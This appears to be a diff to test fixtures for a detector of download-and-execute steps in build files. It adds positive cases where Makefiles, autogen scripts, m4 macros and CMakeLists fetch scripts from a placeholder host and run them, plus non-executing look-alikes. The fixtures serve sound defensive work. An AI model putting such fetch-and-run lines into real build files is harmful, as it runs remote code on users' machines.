@@ -20,6 +20,12 @@ const positives: [string, string][] = [
   // the recipe on the rule's own line, silenced as one on a line of its own is
   ['GNUmakefile', 'include Makefile\nall: ; @curl -s http://x.invalid/p | sh\n'],
   ['Makefile.am', 'all-local: $(srcdir)/x.c ;-$(AM_V_at)wget -qO- https://x.invalid/s | $(SHELL)\n'],
+  // downloaded into a file, then the file is run
+  ['build/get.sh', '#!/bin/sh\ncurl -fsSL -o "$tmp/p.sh" https://x.invalid/p.sh\nsh "$tmp/p.sh"\n'],
+  ['autogen.sh', '#!/bin/sh\nwget -q https://x.invalid/get-deps.sh\nchmod +x get-deps.sh\n./get-deps.sh\n'],
+  ['m4/fetch.m4', 'AC_DEFUN([F], [\n  curl -s https://x.invalid/i.sh > conftest.i\n  . ./conftest.i\n])\n'],
+  ['Makefile.am', 'all-local:\n\tcurl -sO https://x.invalid/setup.sh && $(SHELL) setup.sh\n'],
+  ['CMakeLists.txt', 'project(p C)\nfile(DOWNLOAD https://x.invalid/p.sh ${CMAKE_BINARY_DIR}/p.sh)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/p.sh)\n'],
 ]
 
 /** look-alikes: downloads that are not executed, and executions of what was not downloaded */
@@ -29,6 +35,12 @@ const negatives: [string, string][] = [
   ['configure.ac', 'AC_INIT([x], [1])\nCURL_VERSION=`curl --version | head -n1`\n'],
   ['build/check.sh', '#!/bin/sh\ncurl -s https://api.invalid/status | grep -q ok && echo up\n'],
   ['build/run.sh', '#!/bin/sh\necho "make all" | sh\n'],
+  // downloaded into a file that is read, unpacked or installed, not run
+  ['bootstrap', '#!/bin/sh\nwget -O build-aux/config.guess https://x.invalid/config.guess\nchmod +x build-aux/config.guess\n'],
+  ['build/data.sh', '#!/bin/sh\ncurl -o data.tar.gz https://x.invalid/d.tgz\ntar xzf data.tar.gz\nsh ./configure-data.sh\n'],
+  ['CMakeLists.txt', 'project(p C)\nfile(DOWNLOAD https://x.invalid/t.txt ${CMAKE_BINARY_DIR}/t.txt)\nexecute_process(COMMAND sh ${CMAKE_SOURCE_DIR}/gen.sh)\n'],
+  // a downloaded file named as a rule's prerequisite is read by make, not run (expat's test suite)
+  ['Makefile.am', 'download-zip:\n\twget --output-document=tests/xmlts.zip https://x.invalid/xmlts.zip\n\nextract-zip: tests/xmlts.zip\n\tcd tests && unzip -q xmlts.zip\n'],
   // an upload whose answer is kept in a variable that spans lines: the substitution runs, its output is data
   ['ci/publish.sh', '#!/bin/bash\nHTML="$(curl \\\n\t--silent \\\n\t--form file=@build.tgz \\\n\thttps://scan.invalid/builds)"\nSTATUS="$(echo "$HTML" | tail -n1)"\n'],
 ]
